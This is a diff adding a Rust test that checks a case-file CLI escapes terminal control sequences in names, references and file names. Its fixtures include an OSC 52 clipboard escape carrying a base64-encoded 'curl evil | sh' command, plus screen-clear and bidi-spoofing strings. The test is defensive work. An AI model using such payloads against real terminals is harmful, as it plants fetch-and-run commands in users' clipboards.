@@ -654,6 +654,98 @@ fn saving_keeps_the_case_files_permissions() {
     assert_eq!(mode(&backup_path(&path)), 0o600);
 }
 
+// ---- 9. Terminal injection ----------------------------------------------------------------
+
+const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}";
+const CLEAR: &str = "\u{1b}[2J\u{1b}[H";
+const BIDI: &str = "\u{202e}gnp.exe";
+
+fn assert_terminal_safe(what: &str, text: &str) {
+    let bad: Vec<char> = text
+        .chars()
+        .filter(|&c| chokepoint::cli::term::is_unsafe(c))
+        .collect();
+    assert!(bad.is_empty(), "{what}: raw control characters {bad:?}");
+    for line in text.lines() {
+        assert!(
+            line.chars().count() <= chokepoint::cli::term::MAX_LINE_CHARS + 40,
+            "{what}: a line of {} characters",
+            line.chars().count()
+        );
+    }
+}
+
+/// `findings` and `check` printed names, references and ids raw: a case from outside could
+/// set the clipboard (OSC 52), clear the screen or reorder text, and a 1M-character id
+/// printed a 1 MB line.
+#[test]
+fn hostile_text_in_a_case_never_reaches_the_terminal_raw() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut case = small_case(&format!("Case {CLEAR}"));
+    for (id, name) in [
+        ("e-osc", format!("Osc {OSC52} Trading")),
+        ("e-clear", format!("Clear {CLEAR} Ltd")),
+        ("e-bidi", format!("Bidi {BIDI} Co")),
+    ] {
+        let mut e = Entity::new(id, EntityKind::Company, &name);
+        e.country = Some("SG".parse().expect("country"));
+        case.entities.insert(e.id.clone(), e);
+    }
+    let mut s1 = chokepoint::model::Shipment {
+        id: chokepoint::model::ShipmentId::from("s-1"),
+        reference: format!("INV {OSC52}"),
+        shipper: Some(chokepoint::model::EntityId::from("e-osc")),
+        consignee: Some(chokepoint::model::EntityId::from("e-clear")),
+        ..Default::default()
+    };
+    let place = |name: &str| chokepoint::model::Place {
+        name: name.to_owned(),
+        ..Default::default()
+    };
+    s1.legs.push(chokepoint::model::Leg {
+        from: place(&format!("Port {OSC52}")),
+        to: place("Shenzhen"),
+        ..Default::default()
+    });
+    case.shipments.insert(s1.id.clone(), s1);
+    let good = dir.path().join(format!("good{CLEAR}.ron"));
+    save_case(&good, &case).expect("save");
+    // A link to a 1M-character id: invalid, so `check` reports it.
+    let huge_id = "e".repeat(1_000_000);
+    let mut bad = case.clone();
+    let l = Link::new("l-huge", LinkKind::Associate, "e-osc", huge_id.as_str());
+    bad.links.insert(l.id.clone(), l);
+    let bad_path = dir.path().join("bad.ron");
+    std::fs::write(&bad_path, case_to_ron(&bad).expect("encode")).expect("write");
+
+    let (_, out, err) = check(&[&good, &bad_path]);
+    assert_terminal_safe("check", &format!("{out}{err}"));
+    assert!(out.contains("\\u{1b}[2J"), "shown, escaped: {out}\n{err}");
+    assert!(err.len() < 20_000, "check printed {} bytes", err.len());
+    for args in [vec![s(&good)], vec![s(&good), "--json"]] {
+        let (code, out, err) = run(chokepoint::cli::findings, &args);
+        assert_eq!(code, 0, "{err}");
+        assert_terminal_safe("findings", &format!("{out}{err}"));
+        if args.len() == 2 {
+            let v: serde_json::Value = serde_json::from_str(&out).expect("still JSON");
+            assert!(v.get("findings").is_some());
+        }
+    }
+    let (_, out, err) = run(chokepoint::cli::findings, &[s(&bad_path)]);
+    assert_terminal_safe("findings on the invalid case", &format!("{out}{err}"));
+    let (_, out, err) = run(
+        chokepoint::cli::export,
+        &[
+            "--format",
+            "graphml",
+            s(&good),
+            "-o",
+            s(&dir.path().join(format!("o{OSC52}.graphml"))),
+        ],
+    );
+    assert_terminal_safe("export", &format!("{out}{err}"));
+}
+
 // ---- 1. Two windows on one case -----------------------------------------------------------
 
 /// A second window on a case another window has open is told so and opens it read-only:
